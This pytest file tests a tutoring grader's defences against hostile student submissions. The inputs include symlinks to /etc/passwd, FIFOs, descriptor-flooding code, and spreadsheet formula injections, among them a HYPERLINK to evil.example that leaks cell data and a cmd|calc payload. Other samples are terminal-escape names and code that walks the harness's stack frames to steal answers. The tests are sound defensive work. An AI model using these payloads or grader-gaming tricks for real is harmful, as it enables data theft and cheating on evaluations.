"""Issue 12: each way a submission fooled or knocked over `mcalc-tutor grade`, as a real submission
(a TOML file and code files in a temporary folder) graded end to end through mcalc_tutor.grading,
in bubblewrap mode and in the refusal path without it (MCALC_TUTOR_NO_BWRAP=1).

Honest parts beside each attack must keep their score: an attack costs its own submission (or
its own test) only, with a reason, and the batch always finishes.
"""
from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from mcalc_tutor.grading.batch import grade_many
from mcalc_tutor.grading.grader import NOT_GRADED, grade_path
from mcalc_tutor.grading.runner import NEEDS_BUBBLEWRAP, NO_BWRAP_ENV, sandbox_mode

ROOT = Path(__file__).resolve().parents[1]
CLI = [sys.executable, "-m", "mcalc_tutor"]
REFERENCE = {name: (ROOT / "solutions" / section / f"{name}.py").read_text(encoding="utf-8")
             for section, name in (("background", "power_iteration"), ("gradients", "gradient_check"))}
MATH = ('[answers.grad-quadratic-form]\na = "x\' A x"\nb = "A x + A^T x"\nc = "4"\n')
MATH_POINTS = 4
POWER = '[answers.code-power-iteration]\na = "power_iteration.py"\n'
GRADCHECK = '[answers.code-gradient-check]\na = "gradient_check.py"\n'

MODES = (["bwrap"] if sandbox_mode() == "bwrap" else []) + ["no-bwrap"]


@pytest.fixture(params=MODES)
def sandbox(request, monkeypatch):
    """``bwrap`` (where it works here) or ``no-bwrap``: the refusal path, as on a machine without it."""
    if request.param == "no-bwrap":
        monkeypatch.setenv(NO_BWRAP_ENV, "1")
    else:
        monkeypatch.delenv(NO_BWRAP_ENV, raising=False)
    return request.param


def student(folder: Path, name: str, answers: str = MATH, files: dict[str, str] | None = None,
            seed: int = 0) -> Path:
    """A submission folder: submission.toml for ``name`` and its code files."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "submission.toml").write_text(f'[meta]\nstudent = {json.dumps(name)}\nseed = {seed}\n\n{answers}',
                                            encoding="utf-8")
    for file_name, text in (files or {}).items():
        (folder / file_name).write_text(text, encoding="utf-8")
    return folder / "submission.toml"


def parts(result) -> dict[tuple[str, str], object]:
    return {(p.exercise, p.part): p for p in result.parts}


def math_score(result) -> float:
    return sum(p.score for p in result.parts if p.exercise == "grad-quadratic-form")


def assert_code_part(part, mode: str, full: bool) -> None:
    """A code part: its score in bwrap mode; "needs bubblewrap" and no score without it."""
    if mode == "no-bwrap":
        assert part.status == NOT_GRADED and part.score == 0 and NEEDS_BUBBLEWRAP in part.feedback, part
    elif full:
        assert part.status == "correct" and part.score == part.max_score, part.feedback
    else:
        assert part.score < part.max_score, part.feedback


def _label(submission: str) -> str:
    path = Path(submission)
    return path.parent.name if path.name == "submission.toml" else path.name


# ---- class 5: files that stopped a whole batch ---------------------------------------------------

def test_files_that_stopped_a_batch_are_each_that_submissions_zero(tmp_path, sandbox):
    batch = tmp_path / "batch"
    student(batch / "alice", "alice", MATH + POWER, {"power_iteration.py": REFERENCE["power_iteration"]})
    (batch / "nested").mkdir(parents=True)
    (batch / "nested" / "submission.toml").write_text("a = " + "[" * 3000 + "]" * 3000 + "\n")
    (batch / "fifo").mkdir()
    os.mkfifo(batch / "fifo" / "submission.toml")
    os.mkfifo(batch / "pipe.toml")
    (batch / "zero").mkdir()
    (batch / "zero" / "submission.toml").symlink_to("/dev/zero")
    (batch / "passwd.toml").symlink_to("/etc/passwd")
    code_link = student(batch / "codelink", "codelink", MATH + POWER)
    (code_link.parent / "power_iteration.py").symlink_to("/dev/zero")
    code_fifo = student(batch / "codefifo", "codefifo", MATH + POWER)
    os.mkfifo(code_fifo.parent / "power_iteration.py")
    inside = student(batch / "inside", "inside", MATH + POWER, {"real.py": REFERENCE["power_iteration"]})
    (inside.parent / "power_iteration.py").symlink_to("real.py")  # a link inside the folder is fine

    from mcalc_tutor.grading.submission import find_submissions

    paths, errors = find_submissions([str(batch)])
    assert not errors
    started = time.monotonic()
    results = {_label(r.submission): r for r in grade_many(paths, None, 1)}
    assert time.monotonic() - started < 60
    assert set(results) == {"alice", "nested", "fifo", "pipe.toml", "zero", "passwd.toml", "codelink", "codefifo",
                            "inside"}
    assert results["alice"].error is None and math_score(results["alice"]) == MATH_POINTS
    assert_code_part(parts(results["alice"])[("code-power-iteration", "a")], sandbox, full=True)
    assert_code_part(parts(results["inside"])[("code-power-iteration", "a")], sandbox, full=True)
    assert "nested too deeply" in results["nested"].error
    assert "FIFO" in results["fifo"].error and "FIFO" in results["pipe.toml"].error
    assert "outside the submission's folder" in results["zero"].error
    assert "outside the submission's folder" in results["passwd.toml"].error
    for name in ("nested", "fifo", "pipe.toml", "zero", "passwd.toml"):
        assert results[name].score == 0
    for name, word in (("codelink", "outside the submission's folder"), ("codefifo", "FIFO")):
        code = parts(results[name])[("code-power-iteration", "a")]
        assert code.status == "invalid" and code.score == 0 and word in code.feedback
        assert math_score(results[name]) == MATH_POINTS  # the other parts of that submission are still graded


def test_a_hostile_batch_through_the_cli_finishes_without_a_traceback(tmp_path, sandbox):
    batch = tmp_path / "batch"
    student(batch / "alice", "alice")
    (batch / "deep.toml").write_text("[answers.x]\na = " + "{b = " * 3000 + "1" + "}" * 3000 + "\n")
    os.mkfifo(batch / "fifo.toml")
    (batch / "zero.toml").symlink_to("/dev/zero")
    env = {k: v for k, v in os.environ.items() if k != NO_BWRAP_ENV}
    if sandbox == "no-bwrap":
        env[NO_BWRAP_ENV] = "1"
    run = subprocess.run([*CLI, "grade", str(batch), "--format", "json", "--jobs", "2"], capture_output=True,
                         text=True, timeout=120, env=env)
    assert run.returncode == 0 and "Traceback" not in run.stderr, run.stderr
    by_name = {Path(d["submission"]).name: d for d in json.loads(run.stdout)}
    assert by_name["submission.toml"]["score"] == MATH_POINTS
    assert "nested too deeply" in by_name["deep.toml"]["error"]
    assert "FIFO" in by_name["fifo.toml"]["error"] and "outside" in by_name["zero.toml"]["error"]


# ---- class 3: the result channel -----------------------------------------------------------------

FLOOD = """
import os as _os
_junk = b"".join(b'{"event": "noise", "n": %d}\\n' % i for i in range(40000))
_deep = b"\\n" + b"[" * 100000 + b"\\n"
_long = b"\\n" + b'{"event": "test", "name": "' + b"x" * (3 * 1024 * 1024) + b'"}\\n'
for _fd in range(3, 12):
    try:
        _os.fstat(_fd)
    except OSError:
        continue
    for _blob in (_junk, _deep, _long):
        try:
            _os.write(_fd, _blob)
        except OSError:
            pass
"""


def test_a_flooded_result_channel_is_read_in_linear_time_and_spares_the_other_parts(tmp_path, sandbox):
    path = student(tmp_path / "flood", "flood", MATH + POWER,
                   {"power_iteration.py": REFERENCE["power_iteration"] + FLOOD})
    started = time.monotonic()
    result = grade_path(path)
    assert time.monotonic() - started < 15
    assert result.error is None and math_score(result) == MATH_POINTS
    assert_code_part(parts(result)[("code-power-iteration", "a")], sandbox, full=True)


def test_runner_parses_a_hostile_channel_with_bounds():
    from mcalc_tutor.grading import runner

    lines = b"".join(b'{"event": "violation", "reason": "r%d"}\n' % i for i in range(40000))
    started = time.monotonic()
    parsed = runner._parse_protocol(lines + b"[" * 100000 + b"\n" + b"{" * 10 + b"\n")
    assert time.monotonic() - started < 2
    assert len(parsed.events) == 40000 and parsed.unreadable == ["a line nested too deeply"]
    big = bytearray(b'{"event": "x"}\n' * (runner.MAX_EVENTS + 10))
    assert len(runner._parse_protocol(big).events) == runner.MAX_EVENTS


# ---- class 6: --out onto a device, FIFO, socket, folder or link ----------------------------------

def _special_targets(tmp_path: Path) -> dict[str, Path]:
    import socket
    import stat as stat_module

    targets = {"fifo": tmp_path / "fifo", "folder": tmp_path / "folder", "link": tmp_path / "link",
               "socket": tmp_path / "sock"}
    os.mkfifo(targets["fifo"])
    targets["folder"].mkdir()
    (tmp_path / "victim.csv").write_text("precious\n")
    targets["link"].symlink_to(tmp_path / "victim.csv")
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(targets["socket"]))
    server.close()
    if os.geteuid() == 0:  # a private copy of /dev/null: the real one is never put at risk
        targets["device"] = tmp_path / "null"
        os.mknod(targets["device"], stat_module.S_IFCHR | 0o666, os.makedev(1, 3))
    return targets


def test_out_refuses_anything_but_a_regular_file(tmp_path):
    import stat as stat_module

    from mcalc_tutor.grading.output import write_report

    targets = _special_targets(tmp_path)
    before = {name: os.lstat(path).st_mode for name, path in targets.items()}
    for name, path in targets.items():
        problem = write_report(path, "report\n")
        assert problem and "\n" not in problem and "not a regular file" in problem, (name, problem)
        assert os.lstat(path).st_mode == before[name], name
    assert (tmp_path / "victim.csv").read_text() == "precious\n"
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")) == []
    assert write_report(tmp_path / "new" / "grades.csv", "a\n") is None
    assert write_report(tmp_path / "new" / "grades.csv", "b\n") is None  # a regular file is replaced
    assert (tmp_path / "new" / "grades.csv").read_text() == "b\n"
    assert stat_module.S_ISREG(os.lstat(tmp_path / "new" / "grades.csv").st_mode)


def test_grade_out_onto_a_device_exits_2_with_one_line(tmp_path):
    targets = _special_targets(tmp_path)
    sub = student(tmp_path / "alice", "alice")
    target = targets.get("device", targets["fifo"])
    before = os.lstat(target)
    run = subprocess.run([*CLI, "grade", str(sub), "--format", "csv", "--out", str(target)], capture_output=True,
                         text=True, timeout=60)
    assert run.returncode == 2 and run.stdout == ""
    assert run.stderr.count("\n") == 1 and "not a regular file" in run.stderr, run.stderr
    after = os.lstat(target)
    assert (after.st_mode, after.st_ino, after.st_rdev) == (before.st_mode, before.st_ino, before.st_rdev)


# ---- class 7: the gradebook trusted the submission -----------------------------------------------

HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "@SUM(A1:A9)",
                 "-2+3", "\tTAB", "\rCR", "mallory\nbob (x.toml): 9 / 9", "eve\u202egnp.exe", "zed\x1b[2J"]


def _gradebook_batch(tmp_path: Path) -> Path:
    batch = tmp_path / "batch"
    for i, name in enumerate(HOSTILE_NAMES):
        student(batch / f"h{i}", name)
    student(batch / "alice-1", "alice")
    student(batch / "alice-2", " Alice ")  # the same student, however it is spelled
    student(batch / "bob", "bob")
    return batch


def test_gradebook_neutralises_formulas_escapes_controls_and_flags_duplicates(tmp_path):
    import csv
    import io

    from mcalc_tutor.grading.reports import class_report_data, class_report_text, csv_report, json_report, text_report
    from mcalc_tutor.grading.submission import find_submissions

    batch = _gradebook_batch(tmp_path)
    run = subprocess.run([*CLI, "grade", str(batch), "--format", "csv"], capture_output=True, text=True, timeout=60)
    assert run.returncode == 0, run.stderr
    rows = list(csv.reader(io.StringIO(run.stdout)))
    header, body = rows[0], rows[1:]
    assert len(body) == len(HOSTILE_NAMES) + 3
    status, names = header.index("status"), header.index("student")
    for row in body:
        for value in (row[names], row[header.index("submission")], row[header.index("error")]):
            assert not value.lstrip().startswith(("=", "+", "-", "@")), value
            assert value.isprintable(), value
    by_name = {row[names].strip().casefold(): row for row in body}
    assert by_name["alice"][status] == "duplicate" and by_name["bob"][status] == "ok"
    assert "also claimed by" in by_name["alice"][header.index("warnings")]
    assert by_name["'=hyperlink(\"http://evil.example/?\"&a1,\"click\")"][status] == "ok"

    results = grade_many(sorted(find_submissions([str(batch)])[0]), None, 1)
    text = text_report(results)
    headlines = [line for line in text.splitlines() if line and not line.startswith(" ")]
    assert len(headlines) == len(results)  # a newline in a name forges no line
    assert "mallory\\nbob" in text and "\\u202e" in text and "\\x1b" in text and "\x1b" not in text
    assert text.count("! warning: duplicate student") == 2
    data = json.loads(json_report(results))
    assert sorted(d["status"] for d in data).count("duplicate") == 2
    assert len(class_report_data(results)["duplicates"]) == 2
    assert "warning: duplicate student" in class_report_text(results)


def test_learner_text_in_feedback_cannot_forge_report_lines(tmp_path, sandbox):
    from mcalc_tutor.grading.reports import text_report

    code = ("def power_iteration(A, x0, num_iters=1000, tol=1e-12):\n"
            "    raise ValueError('boom\\nalice (a.toml): 100 / 100\\x1b[2J')\n")
    result = grade_path(student(tmp_path / "s", "s", MATH + POWER, {"power_iteration.py": code}))
    text = text_report([result])
    assert not any(line.startswith("alice") for line in text.splitlines())
    if sandbox == "bwrap":
        assert "boom\\nalice" in text and "\x1b" not in text


# ---- classes 1 and 2: no truth in the sandbox, and the method is graded --------------------------

FRAME_THIEF = '''
import sys
import numpy as np

_stolen = {}


def _steal(x, skip):
    """Walk up the stack and try every callable or matrix the harness keeps in its frames."""
    frame = sys._getframe(2)
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if callable(value) and value is not skip:
                try:
                    guess = np.asarray(value(x), dtype=float)
                except Exception:
                    continue
                if guess.shape == np.shape(x):
                    return guess
        frame = frame.f_back
    return None


def numerical_gradient(f, x, eps=1e-5):
    for grad_f in _stolen.values():       # a gradient handed to gradient_check earlier
        try:
            return np.asarray(grad_f(x), dtype=float)
        except Exception:
            pass
    guess = _steal(x, f)
    return guess if guess is not None else np.zeros_like(x)


def relative_error(a, b):
    a, b = np.asarray(a, dtype=float), np.asarray(b, dtype=float)
    return float(np.linalg.norm(a - b) / max(np.linalg.norm(a), np.linalg.norm(b), 1e-12))


def gradient_check(f, grad_f, x, eps=1e-5):
    _stolen[np.shape(x)] = grad_f
    return 0.0
'''

EIGH_THIEF = '''
import sys
import numpy as np

_eigh = np.linalg.eigh       # captured at import, before any switch-off


def _matrix_from_frames():
    frame = sys._getframe(1)
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if isinstance(value, np.ndarray) and value.ndim == 2 and value.shape[0] == value.shape[1]:
                return value
            if isinstance(value, dict) and isinstance(value.get("A"), list):
                return np.array(value["A"], dtype=float)
        frame = frame.f_back
    return None


def power_iteration(A, x0, num_iters=1000, tol=1e-12):
    M = _matrix_from_frames()
    if M is None:
        M = np.asarray(A, dtype=float)
    w, V = _eigh(M)
    k = int(np.argmax(np.abs(w)))
    v = V[:, k]
    for _ in range(3):                 # a few products, to look busy
        A @ v
    return float(w[k]), v
'''


def test_learner_code_finds_no_truth_in_the_harness_memory(tmp_path, sandbox):
    path = student(tmp_path / "thief", "thief", MATH + GRADCHECK, {"gradient_check.py": FRAME_THIEF})
    result = grade_path(path)
    code = parts(result)[("code-gradient-check", "a")]
    assert math_score(result) == MATH_POINTS
    assert_code_part(code, sandbox, full=False)
    if sandbox == "bwrap":
        lines = code.feedback.splitlines()
        assert not any(line.startswith("PASS numerical_gradient") for line in lines), code.feedback
        assert not any(line.startswith("PASS gradient_check") for line in lines), code.feedback


def test_an_eigen_solver_instead_of_power_iteration_scores_nothing(tmp_path, sandbox):
    path = student(tmp_path / "eigh", "eigh", MATH + POWER, {"power_iteration.py": EIGH_THIEF})
    result = grade_path(path)
    code = parts(result)[("code-power-iteration", "a")]
    assert_code_part(code, sandbox, full=False)
    if sandbox == "bwrap":
        assert code.score == 0 and "power iteration only ever multiplies" in code.feedback, code.feedback


def test_a_gradient_check_that_always_returns_zero_scores_zero(tmp_path, sandbox):
    zero = REFERENCE["gradient_check"].replace("    analytic = np.asarray(grad_f(x), dtype=float)",
                                               "    return 0.0\n    analytic = None")
    assert zero != REFERENCE["gradient_check"]
    result = grade_path(student(tmp_path / "zero", "zero", GRADCHECK, {"gradient_check.py": zero}))
    code = parts(result)[("code-gradient-check", "a")]
    assert_code_part(code, sandbox, full=False)
    if sandbox == "bwrap":
        lines = code.feedback.splitlines()
        assert [line for line in lines if line.startswith("PASS gradient_check")] == []
        assert all(line.startswith("PASS") for line in lines if "numerical_gradient" in line)
